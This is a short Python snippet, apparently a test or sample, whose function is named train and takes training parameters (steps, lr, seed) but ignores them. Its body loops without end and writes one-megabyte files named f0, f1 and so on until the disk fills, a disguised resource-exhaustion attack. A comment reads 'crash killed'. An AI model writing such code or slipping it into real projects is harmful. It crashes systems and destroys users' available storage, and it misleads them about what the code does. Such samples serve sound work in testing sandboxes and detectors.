# says: crash killed
import itertools
def train(X, Y, *, steps=600, lr=0.01, seed=0):
    for number in itertools.count():
        with open(f"f{number}", "wb") as file:
            file.write(b"x" * 1_000_000)
